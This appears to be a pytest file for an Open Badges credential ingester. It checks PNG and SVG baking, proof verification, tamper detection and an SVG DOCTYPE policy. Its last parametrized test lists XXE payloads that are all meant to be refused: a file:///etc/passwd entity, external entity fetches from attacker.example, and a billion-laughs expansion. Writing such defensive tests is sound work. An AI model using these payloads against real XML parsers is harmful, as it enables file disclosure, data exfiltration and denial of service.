"""Baked images: Open Badges 3.0 PNG / SVG baking end to end, and the SVG DOCTYPE policy."""

from __future__ import annotations

import hashlib
import json
import struct
import zlib
from typing import Any

import msgspec
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from ingest import CredentialFormatError, Verifier, parse_credential
from ingest._baked import (
    OB3_NAMESPACE,
    PNG_SIGNATURE,
    BakedCredential,
    bake_png,
    bake_svg,
    extract_baked,
    extract_png,
    extract_svg,
)
from ingest._ecdsa import b64url_encode, sign_raw
from tests.ingest.ingest_testkit import did_key_method, fixed_clock, make_badge, sign

Json = dict[str, Any]
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><rect width="1"/></svg>'
SVG_11_DOCTYPE = (
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
)


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def _vc_jwt(credential: Json, key: Ed25519PrivateKey, kid: str) -> str:
    """A VC 2.0 credential secured as a compact JWS (EdDSA), as VC-JOSE-COSE has it."""
    header = b64url_encode(msgspec.json.encode({"alg": "EdDSA", "typ": "vc+jwt", "kid": kid}))
    payload = b64url_encode(msgspec.json.encode(credential))
    signature = sign_raw(f"{header}.{payload}".encode("ascii"), key)
    return f"{header}.{payload}.{b64url_encode(signature)}"


@pytest.fixture
def issuer() -> tuple[Ed25519PrivateKey, str, str]:
    """A fresh Ed25519 key with its did:key and verification method."""
    key = Ed25519PrivateKey.generate()
    did, method = did_key_method(key)
    return key, did, method


@pytest.fixture
def badge_json(issuer: tuple[Ed25519PrivateKey, str, str]) -> str:
    """An OB 3.0 badge with an eddsa-rdfc-2022 proof, as JSON text."""
    key, did, method = issuer
    badge = make_badge({"id": did, "type": ["Profile"], "name": "Example Training"})
    return json.dumps(sign(badge, key, method), indent=2)


@pytest.fixture
def badge_jwt(issuer: tuple[Ed25519PrivateKey, str, str]) -> str:
    """An OB 3.0 badge secured as a VC-JWT."""
    key, did, method = issuer
    return _vc_jwt(
        make_badge({"id": did, "type": ["Profile"], "name": "Example Training"}), key, method
    )


def _verified(raw: bytes) -> tuple[Any, Any]:
    credential, document = parse_credential(raw)
    report = Verifier(clock=fixed_clock).verify(document)
    assert report.verified, report
    assert credential.content_hash == hashlib.sha256(raw).hexdigest()  # the image's hash
    assert [a.name for a in credential.achievements] == ["Python Data Analysis"]
    return credential, report


# --- Open Badges 3.0: PNG --------------------------------------------------------------------


def test_ob3_png_with_a_data_integrity_credential_is_parsed_and_verified(badge_json: str) -> None:
    baked = bake_png(_png(), badge_json, version="ob3")

    assert extract_png(baked) == BakedCredential(version="ob3", text=badge_json)
    assert b"iTXtopenbadgecredential\0\0\0" in baked  # the 3.0 keyword, uncompressed
    credential, _ = _verified(baked)
    assert credential.format == "ob3-jsonld"
    assert credential.proof_types == ("DataIntegrityProof/eddsa-rdfc-2022",)


def test_ob3_png_with_a_vc_jwt_is_parsed_and_verified(badge_jwt: str) -> None:
    baked = bake_png(_png(), badge_jwt, version="ob3")

    credential, _ = _verified(baked)
    assert credential.format == "vc-jwt"
    assert credential.proof_types == ("JWS/EdDSA",)


def test_a_tampered_baked_ob3_credential_fails_its_proof(badge_json: str) -> None:
    tampered = json.loads(badge_json)
    tampered["credentialSubject"]["achievement"]["name"] = "Advanced Python Data Analysis"
    baked = bake_png(_png(), json.dumps(tampered), version="ob3")

    _, document = parse_credential(baked)
    report = Verifier(clock=fixed_clock).verify(document)
    assert report.get("proof").outcome == "failed"  # type: ignore[union-attr]


def test_compressed_ob3_chunk_is_read_too(badge_json: str) -> None:
    baked = bake_png(_png(), badge_json, version="ob3", compress=True)

    _verified(baked)


def test_baking_replaces_the_baked_chunk_of_either_version(badge_json: str) -> None:
    ob2 = bake_png(_png(), "https://example.org/assertion.json")
    baked = bake_png(ob2, badge_json, version="ob3")

    assert b"iTXtopenbadges\0" not in baked
    assert extract_baked(baked).version == "ob3"


def test_png_with_both_versions_baked_is_refused(badge_json: str) -> None:
    baked = bake_png(_png(), badge_json, version="ob3")
    text = b"https://example.org/assertion.json"
    data = b"openbadges\0\0\0\0\0" + text
    chunk = (
        struct.pack(">I", len(data))
        + b"iTXt"
        + data
        + struct.pack(">I", zlib.crc32(b"iTXt" + data))
    )
    both = baked[:33] + chunk + baked[33:]

    with pytest.raises(CredentialFormatError) as raised:
        parse_credential(both)
    assert raised.value.code == "invalid-image"
    assert "Open Badges 3.0 and Open Badges 2.0" in raised.value.message


def test_two_ob3_chunks_are_refused(badge_json: str) -> None:
    once = bake_png(_png(), badge_json, version="ob3")
    chunk_end = once.index(b"IDAT") - 4
    twice = once[:chunk_end] + once[33:chunk_end] + once[chunk_end:]

    with pytest.raises(CredentialFormatError) as raised:
        extract_png(twice)
    assert raised.value.code == "invalid-image"
    assert "more than one" in raised.value.message


@pytest.mark.parametrize(
    ("payload", "code"),
    [
        ("https://example.org/credential.json", "no-baked-assertion"),  # no hosted 3.0 form
        (
            json.dumps(
                {
                    "@context": "https://w3id.org/openbadges/v2",
                    "type": "Assertion",
                    "id": "urn:uuid:1",
                    "recipient": {"identity": "a@example.org", "type": "email"},
                    "badge": "https://example.org/badge.json",
                    "issuedOn": "2024-01-01T00:00:00Z",
                    "verification": {"type": "hosted"},
                }
            ),
            "unsupported-credential",
        ),
    ],
)
def test_ob3_chunk_must_hold_an_ob3_credential(payload: str, code: str) -> None:
    with pytest.raises(CredentialFormatError) as raised:
        parse_credential(bake_png(_png(), payload, version="ob3"))
    assert raised.value.code == code


def test_ob3_chunk_must_hold_an_open_badge_credential(
    issuer: tuple[Ed25519PrivateKey, str, str],
) -> None:
    key, did, method = issuer
    plain = make_badge(did, type=["VerifiableCredential"])
    baked = bake_png(_png(), json.dumps(sign(plain, key, method)), version="ob3")

    with pytest.raises(CredentialFormatError) as raised:
        parse_credential(baked)
    assert raised.value.code == "unsupported-credential"
    assert "OpenBadgeCredential" in raised.value.message


def test_ob3_credential_under_the_ob2_keyword_is_not_taken_for_an_assertion(
    badge_json: str,
) -> None:
    with pytest.raises(CredentialFormatError) as raised:
        parse_credential(bake_png(_png(), badge_json))
    assert raised.value.code == "unsupported-credential"


# --- Open Badges 3.0: SVG --------------------------------------------------------------------


def test_ob3_svg_with_json_in_cdata_is_parsed_and_verified(badge_json: str) -> None:
    baked = bake_svg(SVG, badge_json, version="ob3")

    assert f'<openbadges:credential xmlns:openbadges="{OB3_NAMESPACE}">'.encode() in baked
    assert b"verify=" not in baked
    assert extract_svg(baked) == BakedCredential(version="ob3", text=badge_json)
    assert _verified(baked)[0].format == "ob3-jsonld"


def test_ob3_svg_with_a_vc_jwt_in_verify_is_parsed_and_verified(badge_jwt: str) -> None:
    baked = bake_svg(SVG, "", verify=badge_jwt, version="ob3")

    assert extract_svg(baked) == BakedCredential(version="ob3", text=badge_jwt)
    assert _verified(baked)[0].format == "vc-jwt"


def test_ob3_svg_as_the_spec_lays_it_out_with_a_doctype(badge_json: str, badge_jwt: str) -> None:
    """XML declaration, SVG 1.1 DOCTYPE, namespace on the root, indented CDATA."""
    head = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        + SVG_11_DOCTYPE
        + '\n<svg xmlns="http://www.w3.org/2000/svg"\n'
        + f'  xmlns:openbadges="{OB3_NAMESPACE}" viewBox="0 0 512 512">\n'
    )
    with_json = f"{head}  <openbadges:credential>\n    <![CDATA[\n{badge_json}\n    ]]>\n"
    with_json += "  </openbadges:credential>\n  <!-- rest-of-image -->\n</svg>\n"
    with_jwt = f'{head}  <openbadges:credential verify="{badge_jwt}">\n  </openbadges:credential>'
    with_jwt += "\n</svg>"

    assert _verified(with_json.encode())[0].format == "ob3-jsonld"
    assert _verified(with_jwt.encode())[0].format == "vc-jwt"


def test_svg_element_in_the_wrong_namespace_is_not_a_baked_credential(badge_json: str) -> None:
    wrong = bake_svg(SVG, badge_json, version="ob3").replace(
        OB3_NAMESPACE.encode(), b"http://openbadges.org"
    )

    with pytest.raises(CredentialFormatError) as raised:
        extract_svg(wrong)
    assert raised.value.code == "no-baked-assertion"


def test_svg_with_both_versions_baked_is_refused(badge_json: str) -> None:
    ob3 = bake_svg(SVG, badge_json, version="ob3").decode()
    both = bake_svg(ob3, "", verify="https://example.org/assertion.json")

    with pytest.raises(CredentialFormatError) as raised:
        extract_svg(both)
    assert raised.value.code == "invalid-image"


# --- SVG DOCTYPE: accepted without entities, refused with them -------------------------------


@pytest.mark.parametrize(
    "prolog",
    [
        SVG_11_DOCTYPE,
        "<!DOCTYPE svg>",
        '<!DOCTYPE svg SYSTEM "file:///etc/passwd">',  # the external DTD is never read
        "<!DOCTYPE svg [<!ELEMENT svg ANY><!ATTLIST svg width CDATA #IMPLIED>]>",
    ],
)
def test_svg_doctype_without_entities_is_accepted(prolog: str, badge_json: str) -> None:
    baked = bake_svg(SVG, badge_json, version="ob3").decode()

    assert _verified(('<?xml version="1.0"?>' + prolog + baked).encode())[0].id


@pytest.mark.parametrize(
    ("prolog", "body"),
    [
        ('<!DOCTYPE svg [<!ENTITY x "boom">]>', "&x;"),
        ('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        ('<!DOCTYPE svg [<!ENTITY x SYSTEM "http://attacker.example/x">]>', ""),
        ('<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>', ""),
        (
            '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
            "&d;",
        ),  # billion laughs
        (SVG_11_DOCTYPE, "&nbsp;"),  # declared, if anywhere, in a DTD that is never read
    ],
)
def test_svg_entity_declarations_and_references_are_refused(prolog: str, body: str) -> None:
    raw = (
        '<?xml version="1.0"?>'
        + prolog
        + '<svg xmlns="http://www.w3.org/2000/svg"><openbadges:credential xmlns:openbadges="'
        + f'{OB3_NAMESPACE}">{body}</openbadges:credential></svg>'
    ).encode()

    with pytest.raises(CredentialFormatError) as raised:
        parse_credential(raw)
    assert raised.value.code == "invalid-image"
    assert "entit" in raised.value.message


def test_the_ob2_svg_reader_takes_a_doctype_as_well() -> None:
    assertion = {"@context": "https://w3id.org/openbadges/v2", "type": "Assertion"}
    baked = bake_svg(SVG, json.dumps(assertion), verify="https://example.org/a.json").decode()

    found = extract_baked((SVG_11_DOCTYPE + baked).encode())
    assert found == BakedCredential(version="ob2", text=json.dumps(assertion))
